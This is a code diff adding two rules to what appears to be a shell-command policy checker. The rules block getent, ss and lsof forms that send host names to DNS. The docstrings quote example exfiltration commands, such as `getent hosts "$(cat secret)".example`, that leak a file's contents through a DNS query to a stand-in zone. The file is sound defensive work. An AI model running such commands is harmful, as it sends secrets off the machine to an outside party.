@@ -222,3 +222,62 @@ def cargo_metadata_no_deps(inv, ctx) -> None:
                  "`cargo metadata` without --no-deps resolves dependencies, which may download "
                  "them and rewrite Cargo.lock",
                  "write `cargo metadata --no-deps --format-version 1`", Effect.NETWORK)
+
+
+# getent databases answered from local files (nsswitch's `files` on a default
+# system); hosts, ahosts*, networks and netgroup may ask DNS or NIS for a name.
+_LOCAL_DATABASES = frozenset({"passwd", "group", "shadow", "gshadow", "services", "protocols", "rpc",
+                              "ethers", "aliases", "initgroups"})
+
+
+@rule("getent_database", codes=[Code.BP406],
+      deny=["getent hosts example.com", "getent ahostsv4 x.example"],
+      allow=["getent passwd root", "getent group docker", "getent services ssh"],
+      unknown_operands=True)
+def getent_database(inv, ctx) -> None:
+    """getent on a database whose lookups leave the machine (hosts, ahosts, networks, netgroup).
+    A DNS query carries the name the command chose: `getent hosts
+    "$(cat secret)".example` sends the secret to whoever serves that zone."""
+    if not inv.positionals:
+        return  # getent alone prints its usage
+    database = inv.positionals[0]
+    if database.value not in _LOCAL_DATABASES:
+        ctx.deny(Code.BP406, database.span,
+                 f"`getent {database.text}` may ask DNS or NIS, sending the names it looks up off the machine",
+                 f"use a local database ({', '.join(sorted(_LOCAL_DATABASES))}); "
+                 "read /etc/hosts with grep", Effect.NETWORK)
+
+
+# ss filter words that name no host: keywords, socket states, numbers, IPv4
+# addresses and prefixes, bracketed IPv6 ones and ports.  A host name there is
+# looked up in DNS with the name the command chose (ss 6.1, strace).
+_SS_WORDS = frozenset({
+    "dst", "src", "dport", "sport", "state", "exclude", "and", "or", "not", "eq", "neq", "ne",
+    "gt", "lt", "ge", "le", "=", "==", "!=", ">", "<", ">=", "<=", "!", "(", ")", "&", "&&", "|",
+    "||", "dev", "fwmark", "cgroup", "autobound", "all", "connected", "synchronized", "bucket",
+    "big", "established", "syn-sent", "syn-recv", "fin-wait-1", "fin-wait-2", "time-wait",
+    "closed", "close-wait", "last-ack", "listening", "closing"})
+_SS_ADDRESS = re.compile(r"(?:[0-9.*]+(?:/[0-9]+)?|\[[0-9A-Fa-f:.]+\](?:/[0-9]+)?)?(?::[0-9*]+)?|[0-9]+")
+# lsof -i [46][PROTOCOL][@HOST][:PORT]: HOST a number or a bracketed IPv6 address.
+_LSOF_HOST = re.compile(r"@(?!(?:[0-9.]+|\[[0-9A-Fa-f:.]+\])(?::|\Z))")
+
+
+@rule("no_name_lookups", codes=[Code.BP406],
+      deny=["ss -tn dst secret.example.com", "ss -tn 'dport = :ssh'", "lsof -i @secret.example.com"],
+      allow=["ss -tn state established '( dport = :22 or sport = :22 )'", "ss -tn dst 127.0.0.1",
+             "lsof -i @127.0.0.1:8080", "lsof -i :8080", "lsof -iTCP -sTCP:LISTEN"],
+      unknown_operands=True)
+def no_name_lookups(inv, ctx) -> None:
+    """Host names in ss filters and lsof -i addresses, which are looked up in DNS.
+    The query carries the name the command chose: `ss dst "$(cat secret)".example`
+    sends it to whoever serves that zone."""
+    if inv.spec.path[0] == "lsof":
+        words = [w for w in inv.words[1:] if w.value is not None and _LSOF_HOST.search(w.value)]
+    else:
+        words = [w for w in inv.positionals
+                 if w.value is None or any(token not in _SS_WORDS and not _SS_ADDRESS.fullmatch(token)
+                                           for token in re.findall(r"[()]|[^\s()]+", w.value))]
+    if words:
+        ctx.deny(Code.BP406, words[0].span,
+                 f"`{words[0].text}` names a host or service that {inv.spec.path[0]} looks up, sending "
+                 "the name off the machine", "write the address and port as numbers", Effect.NETWORK)
